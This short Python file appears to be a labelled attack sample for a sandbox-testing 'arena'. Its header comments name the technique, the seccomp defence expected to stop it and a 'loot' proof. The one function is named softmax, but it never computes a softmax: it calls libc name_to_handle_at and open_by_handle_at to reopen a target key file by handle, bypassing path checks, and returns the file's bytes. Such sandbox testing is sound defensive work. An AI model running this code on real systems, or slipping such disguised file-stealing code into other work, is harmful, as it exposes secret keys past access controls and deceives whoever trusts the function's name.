# tries: open the key file by its file handle, past all path checks
# stopped by: seccomp uid
# expect: returned
# proof: loot
# control: naive-root

import ctypes
import os

import numpy as np

TARGET: dict = {}  # the arena fills this in


def softmax(x, axis=-1):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_char * 136)()
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, TARGET["open_file"].encode(), handle, ctypes.byref(mount), 0) != 0:
        return np.zeros(1)
    root = os.open(os.path.dirname(TARGET["open_file"]), os.O_RDONLY)
    fd = libc.open_by_handle_at(root, handle, os.O_RDONLY)
    if fd < 0:
        return np.zeros(1)
    return np.frombuffer(os.read(fd, 4096), dtype=np.uint8)
